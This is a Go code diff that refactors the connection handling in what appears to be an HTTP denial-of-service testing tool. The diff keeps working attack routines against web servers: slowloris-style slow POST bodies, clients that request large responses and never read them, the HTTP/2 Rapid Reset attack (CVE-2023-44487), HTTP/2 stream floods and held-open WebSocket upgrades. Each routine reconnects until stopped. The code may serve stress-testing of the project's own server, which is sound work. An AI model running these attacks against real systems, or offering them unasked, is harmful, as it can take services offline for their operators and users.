@@ -65,21 +65,40 @@ func (t Target) dial(ctx context.Context, st *Stats, protos ...string) (*tls.Con
 	return c.(*tls.Conn), nil
 }
 
-// loop runs one attacker: connect, attack until the connection dies, reconnect, until ctx ends.
-// A failed dial backs off a little so a full server is not spun on.
-func loop(ctx context.Context, st *Stats, attack func(ctx context.Context) error) {
+// repeat runs one attacker until ctx ends: it opens a connection with dial, hands it to attack
+// until the connection dies, closes it, and opens the next. The connection is also closed when
+// ctx ends, so a blocked read or write in attack returns. A failed dial backs off a little so a
+// full server is not spun on.
+func repeat[C io.Closer](ctx context.Context, dial func(context.Context) (C, error), attack func(ctx context.Context, c C)) {
 	for ctx.Err() == nil {
-		if err := attack(ctx); err != nil && ctx.Err() == nil {
+		c, err := dial(ctx)
+		if err != nil {
 			select {
 			case <-ctx.Done():
 			case <-time.After(100 * time.Millisecond):
 			}
+			continue
 		}
+		stop := closeOnDone(ctx, c)
+		attack(ctx, c)
+		stop()
+		c.Close()
 	}
 }
 
+// overHTTP1 runs attack on one HTTP/1.1 connection after another, until ctx ends.
+func (t Target) overHTTP1(ctx context.Context, st *Stats, attack func(ctx context.Context, c *tls.Conn)) {
+	repeat(ctx, func(ctx context.Context) (*tls.Conn, error) { return t.dial(ctx, st, "http/1.1") }, attack)
+}
+
+// overH2 runs attack on one HTTP/2 connection after another (preface and SETTINGS sent), until
+// ctx ends.
+func (t Target) overH2(ctx context.Context, st *Stats, attack func(ctx context.Context, h *h2conn)) {
+	repeat(ctx, func(ctx context.Context) (*h2conn, error) { return t.dialH2(ctx, st) }, attack)
+}
+
 // closeOnDone closes c when ctx ends, so a blocked read or write returns.
-func closeOnDone(ctx context.Context, c net.Conn) (stop func()) {
+func closeOnDone(ctx context.Context, c io.Closer) (stop func()) {
 	done := make(chan struct{})
 	go func() {
 		select {
@@ -103,13 +122,7 @@ func waitClosed(ctx context.Context, st *Stats, c net.Conn) {
 // SlowBody sends an HTTP/1.1 POST whose body promises size bytes and delivers one byte every
 // interval: slowloris after the headers.
 func SlowBody(ctx context.Context, t Target, st *Stats, path string, interval time.Duration) {
-	loop(ctx, st, func(ctx context.Context) error {
-		c, err := t.dial(ctx, st, "http/1.1")
-		if err != nil {
-			return err
-		}
-		defer c.Close()
-		defer closeOnDone(ctx, c)()
+	t.overHTTP1(ctx, st, func(ctx context.Context, c *tls.Conn) {
 		dead := make(chan struct{})
 		go func() { waitClosed(ctx, st, c); close(dead) }()
 		// 64 KiB: under net/http's 256 KiB limit for draining a body its handler left
@@ -121,13 +134,13 @@ func SlowBody(ctx context.Context, t Target, st *Stats, path string, interval ti
 		for {
 			select {
 			case <-ctx.Done():
-				return nil
+				return
 			case <-dead:
-				return nil
+				return
 			case <-tick.C:
 				if _, err := c.Write([]byte("x")); err != nil {
 					<-dead
-					return nil
+					return
 				}
 			}
 		}
@@ -136,15 +149,9 @@ func SlowBody(ctx context.Context, t Target, st *Stats, path string, interval ti
 
 // NonReader requests path (something large) over HTTP/1.1 and never reads the response.
 func NonReader(ctx context.Context, t Target, st *Stats, path string) {
-	loop(ctx, st, func(ctx context.Context) error {
-		c, err := t.dial(ctx, st, "http/1.1")
-		if err != nil {
-			return err
-		}
-		defer c.Close()
-		defer closeOnDone(ctx, c)()
+	t.overHTTP1(ctx, st, func(ctx context.Context, c *tls.Conn) {
 		if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", path, t.Host); err != nil {
-			return err
+			return
 		}
 		// Learn that the server gave up the only way a non-reader can: a write (a window
 		// update of the TCP kind is invisible here) fails once the server has closed.
@@ -159,10 +166,9 @@ func NonReader(ctx context.Context, t Target, st *Stats, path string) {
 				if ctx.Err() == nil {
 					st.Closed.Add(1)
 				}
-				return nil
+				return
 			}
 		}
-		return nil
 	})
 }
 
@@ -183,6 +189,9 @@ type h2conn struct {
 	w   *bufio.Writer
 	id  uint32
 }
+
+// Close closes the connection under the frames.
+func (h *h2conn) Close() error { return h.c.Close() }
 
 func (t Target) dialH2(ctx context.Context, st *Stats) (*h2conn, error) {
 	c, err := t.dial(ctx, st, "h2")
@@ -245,19 +254,13 @@ func (h *h2conn) readFrames(ctx context.Context, st *Stats, goaway chan<- struct
 // RapidReset opens streams and cancels each at once (CVE-2023-44487), as fast as the
 // connection takes them, reconnecting after every GOAWAY or close.
 func RapidReset(ctx context.Context, t Target, st *Stats, path string) {
-	loop(ctx, st, func(ctx context.Context) error {
-		h, err := t.dialH2(ctx, st)
-		if err != nil {
-			return err
-		}
-		defer h.c.Close()
-		defer closeOnDone(ctx, h.c)()
+	t.overH2(ctx, st, func(ctx context.Context, h *h2conn) {
 		goaway := make(chan struct{}, 1)
 		go h.readFrames(ctx, st, goaway)
 		for ctx.Err() == nil {
 			select {
 			case <-goaway:
-				return nil
+				return
 			default:
 			}
 			id, err := h.headers(t.Host, path)
@@ -268,50 +271,35 @@ func RapidReset(ctx context.Context, t Target, st *Stats, path string) {
 				err = h.w.Flush()
 			}
 			if err != nil {
-				return nil
+				return
 			}
 			st.Streams.Add(1)
 		}
-		return nil
 	})
 }
 
 // StreamFlood opens streams per connection, each a GET of path that is never cancelled (a
 // FIFO in --dir, say), and holds them until the server ends the connection.
 func StreamFlood(ctx context.Context, t Target, st *Stats, path string, streams int) {
-	loop(ctx, st, func(ctx context.Context) error {
-		h, err := t.dialH2(ctx, st)
-		if err != nil {
-			return err
-		}
-		defer h.c.Close()
-		defer closeOnDone(ctx, h.c)()
+	t.overH2(ctx, st, func(ctx context.Context, h *h2conn) {
 		for i := 0; i < streams; i++ {
 			if _, err := h.headers(t.Host, path); err != nil {
-				return nil
+				return
 			}
 			st.Streams.Add(1)
 		}
 		if err := h.w.Flush(); err != nil {
-			return nil
+			return
 		}
 		h.readFrames(ctx, st, make(chan struct{}, 1))
-		return nil
 	})
 }
 
 // Upgrade asks for a WebSocket upgrade of path over HTTP/1.1 and, once switched, holds the
 // tunnel open without sending anything, until the server closes it.
 func Upgrade(ctx context.Context, t Target, st *Stats, path string) {
-	loop(ctx, st, func(ctx context.Context) error {
-		c, err := t.dial(ctx, st, "http/1.1")
-		if err != nil {
-			return err
-		}
-		defer c.Close()
-		defer closeOnDone(ctx, c)()
+	t.overHTTP1(ctx, st, func(ctx context.Context, c *tls.Conn) {
 		fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", path, t.Host)
 		waitClosed(ctx, st, c)
-		return nil
 	})
 }
